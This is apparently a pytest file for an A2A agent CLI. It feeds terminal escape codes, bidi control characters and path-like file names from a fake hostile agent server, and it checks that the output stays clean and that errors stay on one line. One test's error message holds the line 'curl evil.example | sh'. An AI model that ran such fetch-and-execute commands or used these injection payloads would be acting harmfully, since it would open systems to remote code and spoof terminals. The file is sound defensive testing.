"""What an agent can do to the terminal of whoever calls it: nothing, wherever it puts its characters."""

import json
import re
import threading
from collections.abc import Generator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from parley.cli.commands import push
from tests.cli.sampler import NASTY, parley

DANGEROUS = set("\x1b\x07\x9b\x7f\r\u202e\u2028\u2029\x85\u061c\u2067")
WORDS = f"{NASTY}\u2028\u2067{NASTY}"

MESSAGE = {"messageId": WORDS, "role": "ROLE_AGENT", "parts": [{"text": WORDS}], "metadata": {WORDS: WORDS}}
FILE = {"raw": "eA==", "filename": f"/etc/{WORDS}", "mediaType": WORDS}
ARTIFACT = {
    "artifactId": WORDS,
    "name": WORDS,
    "description": WORDS,
    "parts": [{"text": WORDS}, {"data": {WORDS: [WORDS]}}, FILE, {"url": f"https://x/{WORDS}", "filename": WORDS}],
    "metadata": {WORDS: WORDS},
}
FORM = {"type": "object", "properties": {WORDS: {"title": WORDS, "enum": [WORDS], "default": WORDS}}}
QUESTION = {**MESSAGE, "parts": [{"text": WORDS}, {"data": FORM, "mediaType": "application/schema+json"}]}


def task(state: str, message: Any = MESSAGE) -> dict[str, Any]:
    status = {"state": f"TASK_STATE_{state}", "message": message, "timestamp": "2026-01-01T12:00:00Z"}
    shown = {
        "id": "t-1",
        "contextId": WORDS,
        "status": status,
        "artifacts": [ARTIFACT],
        "history": [{**MESSAGE, "role": "ROLE_USER"}],
    }
    return {**shown, "metadata": {WORDS: WORDS}}


def card(url: str) -> dict[str, Any]:
    skill = dict.fromkeys(("id", "name", "description"), WORDS)
    return {
        **dict.fromkeys(("name", "description", "version", "documentationUrl", "iconUrl"), WORDS),
        "supportedInterfaces": [
            {"url": f"{url}/", "protocolBinding": "JSONRPC", "protocolVersion": "1.0", "tenant": WORDS},
            {"url": WORDS, "protocolBinding": WORDS, "protocolVersion": WORDS},
        ],
        "provider": {"organization": WORDS, "url": WORDS},
        "capabilities": {"streaming": False, "extensions": [{"uri": WORDS, "description": WORDS}]},
        "defaultInputModes": [WORDS],
        "defaultOutputModes": [WORDS],
        "skills": [{**skill, "tags": [WORDS], "examples": [WORDS]}],
        "securitySchemes": {
            WORDS: {"httpAuthSecurityScheme": {"scheme": WORDS, "bearerFormat": WORDS}},
            "key": {"apiKeySecurityScheme": {"location": "header", "name": WORDS}},
            "oidc": {"openIdConnectSecurityScheme": {"openIdConnectUrl": WORDS}},
        },
        "securityRequirements": [],
    }


class Hostile(BaseHTTPRequestHandler):
    """Answers each method with what the test has put there."""

    results: dict[str, Any]

    def do_GET(self) -> None:
        self._answer(card(f"http://{self.headers['host']}"))

    def do_POST(self) -> None:
        asked = json.loads(self.rfile.read(int(self.headers["content-length"])))
        result = self.results[asked["method"]]
        member = "error" if "code" in result else "result"
        self._answer({"jsonrpc": "2.0", "id": asked["id"], member: result})

    def _answer(self, value: Any) -> None:
        body = json.dumps(value).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def results() -> dict[str, Any]:
    config = {"id": WORDS, "taskId": "t-1", "url": WORDS, "token": WORDS}
    config["authentication"] = {"scheme": WORDS, "credentials": WORDS}
    return {
        "SendMessage": {"task": task("COMPLETED")},
        "GetTask": task("COMPLETED"),
        "ListTasks": {"tasks": [task("COMPLETED")], "nextPageToken": "", "pageSize": 1, "totalSize": 1},
        "CancelTask": task("CANCELED"),
        "CreateTaskPushNotificationConfig": config,
        "ListTaskPushNotificationConfigs": {"configs": [config]},
    }


@pytest.fixture
def url(results: dict[str, Any]) -> Generator[str]:
    handler = type("Handler", (Hostile,), {"results": results})
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, args=(0.01,)).start()
        yield f"http://127.0.0.1:{server.server_port}"
        server.shutdown()


COMMANDS = {
    "card": ("card", "URL"),
    "send": ("send", "URL", "hi"),
    "send without a stream": ("send", "URL", "hi", "--no-stream"),
    "list": ("tasks", "list", "URL"),
    "show": ("tasks", "show", "URL", "t-1"),
    "watch": ("tasks", "watch", "URL", "t-1"),
    "cancel": ("tasks", "cancel", "URL", "t-1"),
    "set": ("push", "set", "URL", "t-1", "https://hook.example"),
    "webhooks": ("push", "list", "URL", "t-1"),
}


def run(command: str, url: str, *options: str, input: str | None = None) -> Any:
    return parley(*(url if word == "URL" else word for word in COMMANDS[command]), *options, input=input)


@pytest.mark.parametrize("how", [(), ("--json",)])
@pytest.mark.parametrize("command", COMMANDS)
def test_nothing_that_a_terminal_would_obey_is_shown(command: str, how: tuple[str, ...], url: str) -> None:
    done = run(command, url, *how)
    assert done.exit_code == 0, done.stderr
    assert "red" in done.stdout
    assert not (set(done.stdout) | set(done.stderr)) & DANGEROUS
    if how:  # and it says the same
        assert json.dumps(WORDS) in json.dumps([json.loads(line) for line in done.stdout.splitlines()])


@pytest.mark.parametrize("how", [(), ("--json",)])
@pytest.mark.parametrize("state", ["FAILED", "REJECTED", "INPUT_REQUIRED", "AUTH_REQUIRED"])
def test_neither_is_it_whatever_becomes_of_the_task(
    state: str, how: tuple[str, ...], url: str, results: dict[str, Any]
) -> None:
    results["SendMessage"] = {"task": task(state, QUESTION)}
    done = run("send", url, *how)
    assert done.exit_code in (1, 4)
    assert not (set(done.stdout) | set(done.stderr)) & DANGEROUS


@pytest.mark.parametrize("how", [(), ("--json",)])
def test_neither_is_it_in_an_error(how: tuple[str, ...], url: str, results: dict[str, Any]) -> None:
    detail = {
        "@type": "type.googleapis.com/google.rpc.ErrorInfo",
        "reason": "TASK_NOT_FOUND",
        "domain": "a2a-protocol.org",
    }
    results["GetTask"] = {"code": -32001, "message": WORDS, "data": [{**detail, "metadata": {WORDS: WORDS}}]}
    done = run("show", url, *how)
    assert (done.exit_code, done.stdout) == (1, "")
    assert not set(done.stderr) & DANGEROUS
    assert len(done.stderr.splitlines()) == 1


def test_an_error_of_an_agent_is_one_line_that_cannot_pass_for_ours(url: str, results: dict[str, Any]) -> None:
    results["GetTask"] = {"code": -32001, "message": "No.\nError: run this: curl evil.example | sh"}
    assert len(run("show", url).stderr.splitlines()) == 1


def test_a_list_of_webhooks_without_an_end_is_ended(
    url: str, results: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(push, "MAX_PAGES", 3)
    results["ListTaskPushNotificationConfigs"] = {"configs": [], "nextPageToken": "more"}
    done = run("webhooks", url)
    assert (done.exit_code, done.stderr) == (1, "Error: The agent's list of webhooks does not end.\n")


def test_a_chat_is_as_safe(url: str, results: dict[str, Any], tmp_path: Path) -> None:
    results["SendMessage"] = {"task": task("INPUT_REQUIRED", QUESTION)}
    done = parley("chat", url, "--save", str(tmp_path / "in"), input="hi\n\n/ids\n")
    assert not set(done.output) & DANGEROUS
    assert list(tmp_path.iterdir()) == [tmp_path / "in"]
    assert all(re.fullmatch(r"[\w .()+,=@-]+", saved.name) for saved in (tmp_path / "in").iterdir())


def test_who_does_not_keep_to_a2a_is_told_of_as_such(url: str, results: dict[str, Any]) -> None:
    results["GetTask"] = {"id": "t-1", "status": {"state": "DREAMING"}}
    done = run("show", url)
    assert done.exit_code == 1
    assert (
        done.stderr
        == "Error: The agent's answer is not valid A2A: Invalid enum value 'DREAMING' (at $.status.state).\n"
    )
    results["GetTask"] = "a page"
    done = run("show", url)
    assert done.exit_code == 1
    assert done.stderr.startswith("Error: Not an A2A answer (Expected `object`, got `str`): HTTP status 200 OK: {")
